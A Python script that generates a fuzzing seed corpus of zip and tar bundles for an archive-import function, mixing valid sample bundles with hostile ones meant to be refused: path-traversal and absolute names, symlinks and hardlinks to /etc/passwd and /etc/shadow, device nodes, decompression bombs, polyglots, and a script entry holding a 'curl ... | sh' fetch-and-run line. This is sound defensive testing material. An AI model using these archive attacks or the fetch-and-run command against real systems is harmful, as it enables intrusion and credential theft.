#!/usr/bin/env python3
"""make_import_seeds.py: write the seed corpus of fuzz/fuzz_import.c.

    python3 fuzz/corpus/make_import_seeds.py [OUTDIR]

OUTDIR defaults to fuzz/corpus/fuzz_import/ (next to this script).  Python
3.9 or later, standard library only; the output is the same byte for byte on
every run (fixed dates, gzip mtime 0, fixed random seed), so the files can be
kept in the repository and made again.

Good bundles (zip stored, deflated and streamed, tar, tar.gz) carry
samples/sample.pdf, sample.png and sample.jpg; the others are one attack
each, which coffre_import must refuse entry by entry or as a whole (the
bundle's remaining good entries, where there are some, are still sealed).
Every seed is under 8 KiB, so that libFuzzer's default -max_len stays small.
"""

import gzip
import io
import os
import random
import stat
import struct
import sys
import tarfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
SAMPLES = os.path.join(ROOT, "samples")
DATE = (2024, 1, 2, 3, 4, 6)
MTIME = 1704164646  # the same moment, for tar
MAX_SEED = 8 * 1024


def sample(name):
    with open(os.path.join(SAMPLES, name), "rb") as f:
        return f.read()


PDF = sample("sample.pdf")
PNG = sample("sample.png")
JPG = sample("sample.jpg")


# ---- zip ----


class Unseekable:
    """A write-only stream: zipfile then writes data descriptors (flag bit
    3), with no sizes in the local headers, as a streaming zipper does."""

    def __init__(self):
        self.buf = io.BytesIO()

    def write(self, data):
        return self.buf.write(data)

    def flush(self):
        pass


def zinfo(name, mode=0o100644, method=zipfile.ZIP_DEFLATED):
    zi = zipfile.ZipInfo(name, date_time=DATE)
    zi.create_system = 3  # unix: external_attr holds st_mode
    zi.external_attr = (mode & 0xFFFF) << 16
    if stat.S_ISDIR(mode):
        zi.external_attr |= 0x10
    zi.compress_type = method
    return zi


def zipped(entries, method=zipfile.ZIP_DEFLATED, streamed=False):
    """entries: (name, data) or (name, data, mode)."""
    out = Unseekable() if streamed else io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for e in entries:
            name, data = e[0], e[1]
            mode = e[2] if len(e) > 2 else 0o100644
            m = zipfile.ZIP_STORED if stat.S_ISDIR(mode) else method
            z.writestr(zinfo(name, mode, m), data)
    return (out.buf if streamed else out).getvalue()


def zip_set_flag(data, bit):
    """Set general-purpose flag ${bit} in the first entry's local and
    central headers."""
    b = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = b.find(sig)
        (flags,) = struct.unpack_from("<H", b, i + off)
        struct.pack_into("<H", b, i + off, flags | bit)
    return bytes(b)


# ---- tar ----


def tinfo(name, size=0, kind=tarfile.REGTYPE, **kw):
    ti = tarfile.TarInfo(name)
    ti.size = size
    ti.type = kind
    ti.mtime = MTIME
    ti.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    ti.uid = ti.gid = 1000
    ti.uname = ti.gname = "user"
    for k, v in kw.items():
        setattr(ti, k, v)
    return ti


def tarred(members, fmt=tarfile.GNU_FORMAT, encoding="utf-8"):
    """members: (TarInfo, data or None).  The archive ends after its two
    zero blocks (no padding to a 10 KiB record)."""
    b = io.BytesIO()
    tf = tarfile.open(fileobj=b, mode="w", format=fmt, encoding=encoding,
                      errors="surrogateescape")
    for ti, data in members:
        tf.addfile(ti, io.BytesIO(data) if data is not None else None)
    end = tf.offset + 2 * tarfile.BLOCKSIZE
    tf.close()
    return b.getvalue()[:end]


def reg(name, data, **kw):
    return (tinfo(name, len(data), **kw), data)


def gz(data):
    return gzip.compress(data, compresslevel=9, mtime=0)


# ---- the seeds ----


def seeds():
    s = {}
    # Good bundles.
    good = [("docs/", b"", 0o40755), ("docs/diplome.pdf", PDF),
            ("photo.png", PNG)]
    s["good-stored.zip"] = zipped(good, zipfile.ZIP_STORED)
    s["good-deflated.zip"] = zipped(good + [("scan.jpg", JPG)])
    s["good-streamed.zip"] = zipped(good, streamed=True)
    good_tar = [(tinfo("docs", kind=tarfile.DIRTYPE), None),
                reg("docs/diplome.pdf", PDF), reg("photo.png", PNG)]
    s["good.tar"] = tarred(good_tar)
    s["good-pax.tar"] = tarred(
        [reg("pax/" + "long-name-" * 12 + ".pdf", PDF)],
        fmt=tarfile.PAX_FORMAT)
    s["good.tar.gz"] = gz(tarred(good_tar + [reg("scan.jpg", JPG)]))

    # Names that climb out, or are absolute.
    s["traversal.zip"] = zipped([("../../etc/evil.pdf", PDF),
                                 ("ok.pdf", PDF)])
    s["traversal-windows.zip"] = zipped([("..\\..\\evil.pdf", PDF),
                                         ("C:/evil.pdf", PDF),
                                         ("docs/../../evil.pdf", PDF)])
    s["traversal.tar"] = tarred([reg("a/../../evil.pdf", PDF)])
    s["absolute.tar"] = tarred([reg("/etc/cron.d/evil.pdf", PDF),
                                reg("ok.pdf", PDF)])
    s["absolute.zip"] = zipped([("/tmp/evil.pdf", PDF)])
    # Names that are not names: control bytes, not UTF-8, too long.
    s["bad-names.tar"] = tarred(
        [reg("ctl\x01\x1b[31m.pdf", PDF),
         reg("caf\udce9.pdf", PDF),
         reg("n" * 300 + ".pdf", PDF)],
        fmt=tarfile.GNU_FORMAT)

    # Links and devices.
    s["symlink.tar"] = tarred([
        (tinfo("passwd.pdf", kind=tarfile.SYMTYPE, linkname="/etc/passwd"),
         None),
        reg("ok.pdf", PDF)])
    # (A zip keeps an entry's mode in its central directory only, which a
    # reader of the stream does not see: this one is read as a regular
    # file holding "/etc/passwd", refused for its type.)
    s["symlink.zip"] = zipped([("passwd.pdf", b"/etc/passwd", 0o120777),
                               ("ok.pdf", PDF)])
    s["hardlink.tar"] = tarred([
        reg("a.pdf", PDF),
        (tinfo("b.pdf", kind=tarfile.LNKTYPE, linkname="a.pdf"), None),
        (tinfo("c.pdf", kind=tarfile.LNKTYPE, linkname="/etc/shadow"),
         None)])
    s["device.tar"] = tarred([
        (tinfo("null.pdf", kind=tarfile.CHRTYPE, devmajor=1, devminor=3),
         None),
        (tinfo("sda.pdf", kind=tarfile.BLKTYPE, devmajor=8, devminor=0),
         None),
        (tinfo("fifo.pdf", kind=tarfile.FIFOTYPE), None),
        reg("ok.pdf", PDF)])

    # A zip entry marked encrypted (flag bit 0), then a plain one.
    s["encrypted.zip"] = zip_set_flag(
        zipped([("secret.pdf", PDF), ("ok.pdf", PDF)], zipfile.ZIP_STORED), 1)

    # Archives inside the bundle.
    inner = zipped([("inner.pdf", PDF)])
    s["nested.zip"] = zipped([("inner.zip", inner), ("ok.pdf", PDF)])
    s["nested.tar.gz"] = gz(tarred([reg("inner.tar", tarred(
        [reg("inner.pdf", PDF)]))]))
    # A PDF with a zip appended: allowed type, but also an archive.
    s["polyglot.zip"] = zipped([("polyglot.pdf", PDF + inner)])

    # A deflate bomb: 2 MiB of a "PDF" (so that the seal reads on past the
    # head), in a few KiB; streamed, so that no size is announced.  The
    # ratio limit (100) stops it past the first MiB; the next entry is not
    # read.
    bomb = b"%PDF-1.4\n" + bytes(2 * 1024 * 1024 - 9)
    s["bomb.zip"] = zipped([("bomb.pdf", bomb), ("after.pdf", PDF)],
                           streamed=True)
    # The same in a tar.gz: the tar header announces 2 MiB, over the
    # document limit (1 MiB in the harness's vault).
    s["bomb.tar.gz"] = gz(tarred([reg("bomb.pdf", bomb)]))

    # A script (refused by the type policy, whatever its name).
    s["script.zip"] = zipped([
        ("install.sh", b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"),
        ("invoice.pdf", b"#!/usr/bin/env python3\nimport os\n"
         b"os.system('id')\n")])

    # More entries than max_bundle_entries (64 in the harness's vault).
    s["many-entries.zip"] = zipped(
        [("e%02d.pdf" % i, b"") for i in range(70)], zipfile.ZIP_STORED)

    # Damaged and not bundles at all.
    d = s["good-deflated.zip"]
    s["truncated.zip"] = d[:len(d) * 3 // 5]
    g = s["good.tar.gz"]
    s["truncated.tar.gz"] = g[:len(g) // 2]
    s["empty"] = b""
    s["random"] = random.Random(20240102).randbytes(1024)
    return s


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE,
                                                             "fuzz_import")
    os.makedirs(out, exist_ok=True)
    for name, data in sorted(seeds().items()):
        if len(data) > MAX_SEED:
            sys.exit("make_import_seeds.py: %s is %d bytes, over %d"
                     % (name, len(data), MAX_SEED))
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        print("%-24s %5d bytes" % (name, len(data)))


if __name__ == "__main__":
    main()
